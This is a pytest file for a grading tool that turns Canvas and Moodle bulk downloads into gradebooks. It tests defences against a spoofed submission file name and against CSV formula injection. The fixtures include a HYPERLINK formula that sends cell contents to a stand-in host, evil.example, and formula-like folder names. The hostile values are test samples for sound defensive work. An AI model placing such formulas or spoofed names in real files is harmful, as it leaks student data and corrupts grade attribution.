"""From an LMS bulk download to an importable gradebook in one `tutor batch` command, for Canvas
and Moodle, with real trained task-8.1 models graded on real MNIST; plus the hostile names of
issue 13 (attack 6: a Canvas upload named like a Moodle file; attack 8: formulas in cells).

Where each asserted format rule comes from:
- [CZ] canvas-lms lib/content_zipper.rb (`get_filename`, `add_upload_submission`,
  `sanitize_user_name`): bulk-download names `<name>[_LATE]_<user id>_<attachment id>_<file>`.
- [CA] canvas-lms app/models/assignment.rb (`infer_comment_context_from_filename`): the first two
  all-digit `_` fields of a file name are the user id and attachment id (feedback upload).
- [CE] canvas-lms lib/gradebook_exporter.rb (`csv_data`): `Student`, `ID`, `SIS User ID`,
  `SIS Login ID`, `Section`, then `Title (id)` columns, the `    Points Possible` row, totals
  marked `(read only)`, `EX`/`N/A` cells, two decimals at most.
- [MD] moodle mod/assign/locallib.php (`download_submissions`): `<full name, '_' -> ' '>_<participant
  id>_assignsubmission_<plugin>_`.
- [MW] moodle mod/assign/gradingtable.php: worksheet columns `Identifier`, `Full name`, ...,
  `Grade`, `Maximum grade`, `Grade can be changed`, `Last modified (grade)`, `Feedback comments`.
- [MI] moodle mod/assign/feedback/offline/importgradeslib.php (`init`, `next`) and locallib.php
  (`process_import_grades`): needs Identifier, Grade and Last modified (grade); the id is the
  Identifier after `Participant `; grades above the maximum or empty are skipped; a grade changed
  in Moodle after `Last modified (grade)` is skipped.
- [OW] OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection), ASVS 1.2.10:
  cells starting with `=`, `+`, `-`, `@`, tab or CR get a leading `'`.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from tests.batch_support import trained  # noqa: F401  (session fixture)
from tests.conftest import run_tutor
from tutor.batch.cells import TRIGGERS

pytestmark = pytest.mark.tf
FILES = ("model.py", "NOTES.md", "train.json", "model.keras")
FORMULA = '=HYPERLINK("http:evil.example?"&A2&B2,"open")'

CANVAS_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Notes,Task 8.1: MNIST CNN (4411),Homework 1 (4400),"
    "Current Points,Final Points,Current Score,Unposted Current Score,Final Score,Unposted Final Score\n"
    "    Points Possible,,,,,(read only),100.00,20.00,(read only),(read only),(read only),(read only),"
    "(read only),(read only)\n"
    '"Smith, John",1001,s1001,jsmith,Section A,,,18.00,18.00,18.00,90.00,90.00,90.00,90.00\n'
    '"Doe, Jane",1002,s1002,jdoe,Section A,,,15.00,15.00,15.00,75.00,75.00,75.00,75.00\n'
    "Mallory,1003,s1003,mal,Section A,,,,,,,,,\n"
    '"Nosub, Ned",1005,s1005,ned,Section A,,7.00,20.00,27.00,27.00,22.50,22.50,22.50,22.50\n'
    f'"{FORMULA.replace(chr(34), chr(34) * 2)}",1006,s1006,eve,Section A,"@SUM(1+1)",EX,,,,,,,\n'
)
MOODLE_WORKSHEET = (
    'Identifier,"Full name","Email address",Status,Grade,"Maximum grade","Grade can be changed",'
    '"Last modified (submission)","Last modified (grade)","Feedback comments"\n'
    f'"Participant 2001","{FORMULA.replace(chr(34), chr(34) * 2)}",eve@example.com,"Submitted for grading",,'
    '100.00,Yes,"Monday, 1 December 2025, 10:00 AM",-,\n'
    '"Participant 2002","Li Wei",li@example.com,"Submitted for grading",,100.00,Yes,'
    '"Monday, 1 December 2025, 10:05 AM",-,\n'
    '"Participant 2003","No Body",nobody@example.com,"No submission",,100.00,Yes,-,-,\n'
)


def _canvas(src: Path, folder: Path, name: str, uid: int, first_attachment: int, files=FILES) -> None:
    """Loose files named as Canvas' bulk download names them [CZ]."""
    for i, file in enumerate(files):
        shutil.copyfile(folder / file, src / f"{name}_{uid}_{first_attachment + i}_{file}")


def _moodle(src: Path, folder: Path, full_name: str, pid: int) -> Path:
    """A folder per student, as Moodle's "download submissions in folders" names it [MD]."""
    target = src / f"{full_name}_{pid}_assignsubmission_file_"
    shutil.copytree(folder, target)
    return target


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _no_formula_anywhere(rows: list[list[str]]) -> None:
    """[OW] no cell a spreadsheet would run, except plain numbers."""
    for row in rows:
        for cell in row:
            if cell and cell[0] in TRIGGERS:
                assert re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) or cell == "-", f"formula cell {cell!r}"


def test_bulk_download_to_canvas_and_moodle_gradebooks_with_hostile_names(tmp_path, trained):
    src = tmp_path / "download"
    src.mkdir()
    _canvas(src, trained["solution"], "smithjohn", 1001, 5001)
    _canvas(src, trained["one-conv"], "doejane", 1002, 5101, files=("model.py", "NOTES.md", "train.json"))
    _canvas(src, trained["baseline"], "mallory", 1003, 5201)
    # Attack 6: Mallory uploads a file whose name reads as Moodle participant 1002's model [CA][MD].
    shutil.copyfile(trained["adam-dense"] / "model.keras",
                    src / "mallory_1003_5299_x_1002_assignsubmission_file_model.keras")
    _canvas(src, trained["one-conv"], "ghostly", 1009, 5901)  # not in the Canvas export
    # Attack 8: a Moodle display name that is a formula, and folders named like formulas.
    _moodle(src, trained["adam-dense"], FORMULA, 2001)
    _moodle(src, trained["baseline"], "Li Wei", 2002)
    for hostile in ("-2+3+cmd", "@SUM(A1)", "+1+1"):
        (src / hostile).mkdir()
        (src / hostile / "model.py").write_text("def build_model(:\n")
    export = tmp_path / "Grades-CNN.csv"
    export.write_text(CANVAS_EXPORT)
    worksheet = tmp_path / "Grades-Task 8.1-offline.csv"
    worksheet.write_text(MOODLE_WORKSHEET)

    out = tmp_path / "out"
    result = run_tutor("batch", str(src), "--task", "task8.1", "--out", str(out), "--workers", "2",
                       "--canvas-gradebook", str(export), "--moodle-worksheet", str(worksheet),
                       timeout=900)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr

    # Attack 6: the ambiguous name is listed, never filed under 1002 (nor under Mallory).
    unattributed = (out / "unattributed.txt").read_text()
    assert "mallory_1003_5299_x_1002_assignsubmission_file_model.keras" in unattributed
    assert "ambiguous" in unattributed and "ambiguous" in result.stdout
    manifest = json.loads((out / ".batch" / "manifest.json").read_text())
    origins = {s["student"]: s["origin"] for s in manifest["submissions"]}
    assert "x_1002" not in origins["1002"] and "x_1002" not in origins["1003"]
    staged = out / ".batch" / "staged" / "1002"
    assert not (staged / "model.keras").exists(), "student 1002 got Mallory's model"
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO((out / "gradebook.csv").read_text()))}
    assert rows["1002"]["accuracy"] == "" and rows["1002"]["status"] != "passed"  # no model of its own
    assert float(rows["1001"]["accuracy"]) > 0.9

    # Attack 8: every cell of every CSV we wrote is safe to open [OW].
    book = _csv(out / "gradebook.csv")
    _no_formula_anywhere(book)
    assert rows["2001"]["name"] == "'" + FORMULA  # neutralised, not dropped
    assert {"'-2+3+cmd", "'@SUM_A1", "'+1+1"} <= set(rows)
    _no_formula_anywhere(list(csv.reader(io.StringIO((out / "unattributed.txt").read_text()), delimiter="\t")))

    # Canvas [CE]: the export's student columns and the task's column, points possible kept.
    canvas = _csv(out / "canvas-gradebook.csv")
    _no_formula_anywhere(canvas)
    header = canvas[0]
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Task 8.1: MNIST CNN (4411)"]
    assert canvas[1][0].strip() == "Points Possible" and canvas[1][-1] == "100.00"
    by_id = {row[1]: row for row in canvas[2:]}
    score = float(rows["1001"]["final_score"])  # what the gradebook says, penalties included
    assert float(by_id["1001"][-1]) == pytest.approx(round(score * 100, 2), abs=0.006)  # scaled to 100
    assert re.fullmatch(r"\d+(\.\d{1,2})?", by_id["1001"][-1])  # two decimals at most [CE]
    assert float(by_id["1002"][-1]) == pytest.approx(round(float(rows["1002"]["final_score"]) * 100, 2), abs=0.006)
    assert by_id["1005"][-1] == "7.00"  # no submission: left exactly as it was
    assert by_id["1006"][-1] == "EX" and by_id["1006"][0].startswith("'=")  # excused kept; formula name neutralised
    assert "1 graded but not in the Canvas file" in result.stdout and "1009" in result.stdout
    assert "in the export with no submission" in result.stdout and "1005" in result.stdout
    assert "graded from names that carry no Canvas id" in result.stdout

    # Canvas feedback comments: names Canvas' own parser ties to the right submission [CA].
    with zipfile.ZipFile(out / "canvas-comments.zip") as comments:
        names = comments.namelist()
        for name in names:
            user_id, attachment_id = [p for p in name.split("_") if p.isdigit()][:2]
            assert int(attachment_id) in {5001 + i for i in range(4)} | {5101 + i for i in range(3)} | \
                {5201 + i for i in range(4)} | {5901 + i for i in range(4)}
            assert comments.read(name).decode().startswith(f"Feedback for {user_id}")
        assert {n.split("_")[1] for n in names} == {"1001", "1002", "1003"}  # not 1009: not in the export

    # Moodle [MW][MI]: the worksheet as downloaded, Grade and Feedback comments filled.
    moodle = _csv(out / "moodle-worksheet.csv")
    _no_formula_anywhere(moodle)
    assert moodle[0] == _csv(worksheet)[0]  # same columns, same order
    by_pid = {row[0]: row for row in moodle[1:]}
    col = moodle[0].index
    li = by_pid["Participant 2002"]
    assert 0 <= float(li[col("Grade")]) <= float(li[col("Maximum grade")])
    assert float(li[col("Grade")]) == pytest.approx(round(float(rows["2002"]["final_score"]) * 100, 2), abs=0.006)
    assert li[col("Last modified (grade)")] == "-"  # kept: Moodle's staleness check reads it [MI]
    assert li[col("Feedback comments")].startswith("<pre>Feedback for 2002")
    assert "&quot;" in by_pid["Participant 2001"][col("Feedback comments")] or \
        "<pre>" in by_pid["Participant 2001"][col("Feedback comments")]
    assert by_pid["Participant 2001"][col("Full name")] == "'" + FORMULA
    assert by_pid["Participant 2003"][col("Grade")] == ""  # no submission: untouched
    assert "2003" in result.stdout and "Moodle" in result.stdout


def test_lms_file_mistakes_fail_before_grading_in_one_line(tmp_path):
    (tmp_path / "class" / "alice").mkdir(parents=True)
    (tmp_path / "class" / "alice" / "model.py").write_text("x = 1\n")
    cases = {
        "no-id.csv": ("Student,Section,Task 8.1 (1)\n", "--canvas-gradebook", "no 'ID' column"),
        "two.csv": ("Student,ID,Task 8.1 (1),task8.1 redo (2)\n    Points Possible,,10,10\n",
                    "--canvas-gradebook", "more than one assignment column"),
        "nopoints.csv": ("Student,ID,Task 8.1 (1)\nA,1,\n", "--canvas-gradebook", "Points Possible"),
        "sheet.csv": ("Identifier,Full name,Grade\n", "--moodle-worksheet", "Maximum grade"),
        "scale.csv": ("Identifier,Grade,Scale,Last modified (grade)\n", "--moodle-worksheet", "scale"),
        "binary.csv": (None, "--moodle-worksheet", "not UTF-8"),
    }
    for name, (text, option, said) in cases.items():
        path = tmp_path / name
        if text is None:
            path.write_bytes(b"\xff\xfe\x00garbage")
        else:
            path.write_text(text)
        result = run_tutor("batch", str(tmp_path / "class"), "--task", "task8.1", "--out",
                           str(tmp_path / "o"), option, str(path))
        assert result.returncode == 2, (name, result.stderr)
        assert said in result.stderr and "Traceback" not in result.stderr, (name, result.stderr)
        assert len(result.stderr.strip().splitlines()) == 1
        assert not (tmp_path / "o" / ".batch" / "results").exists(), "graded before checking the file"
    missing = run_tutor("batch", str(tmp_path / "class"), "--task", "task8.1", "--canvas-gradebook",
                        str(tmp_path / "nowhere.csv"))
    assert missing.returncode == 2 and "cannot read" in missing.stderr


def test_hostile_attack6_a_canvas_upload_named_like_moodle_is_not_filed_under_another_student(tmp_path):
    """Issue 13, attack 6, through plain `tutor batch`: on the old parser (Moodle pattern first)
    Mallory's upload became participant 1002's model.keras, and 1002 was graded on it."""
    src = tmp_path / "download"
    src.mkdir()
    (src / "doejane_1002_6001_model.py").write_text("def build_model():\n    return None\n")
    (src / "mallory_1003_5003_model.py").write_text("def build_model():\n    return None\n")
    planted = "mallory_1003_5004_x_1002_assignsubmission_file_model.keras"
    (src / planted).write_bytes(b"PK\x03\x04 mallory's model")
    out = tmp_path / "out"
    result = run_tutor("batch", str(src), "--task", "task8.1", "--out", str(out), "--workers", "1")
    assert result.returncode == 0, result.stderr[-2000:]
    manifest = json.loads((out / ".batch" / "manifest.json").read_text())
    assert sorted(s["student"] for s in manifest["submissions"]) == ["1002", "1003"]
    assert all(planted not in s["origin"] for s in manifest["submissions"])
    assert not (out / ".batch" / "staged" / "1002" / "model.keras").exists(), "filed under 1002"
    assert planted in (out / "unattributed.txt").read_text()
    assert "ambiguous" in result.stdout and planted in result.stdout


def test_hostile_attack8_names_that_are_formulas_reach_no_cell_as_formulas(tmp_path):
    """Issue 13, attack 8, through plain `tutor batch`: a Moodle display name that is a formula
    and folders named `+...`, `-...`, `@...` went into gradebook.csv as they were [OW]."""
    src = tmp_path / "download"
    src.mkdir()
    for hostile in ("-2+3+cmd", "@SUM(A1)", "+1+1", f"{FORMULA}_2001_assignsubmission_file_"):
        (src / hostile).mkdir()
        (src / hostile / "model.py").write_text("def build_model(:\n")
    out = tmp_path / "out"
    result = run_tutor("batch", str(src), "--task", "task8.1", "--out", str(out), "--workers", "1")
    assert result.returncode == 0, result.stderr[-2000:]
    book = _csv(out / "gradebook.csv")
    _no_formula_anywhere(book)
    rows = {r[0]: r for r in book[1:]}
    assert {"'-2+3+cmd", "'@SUM_A1", "'+1+1", "2001"} <= set(rows)
    assert rows["2001"][1] == "'" + FORMULA
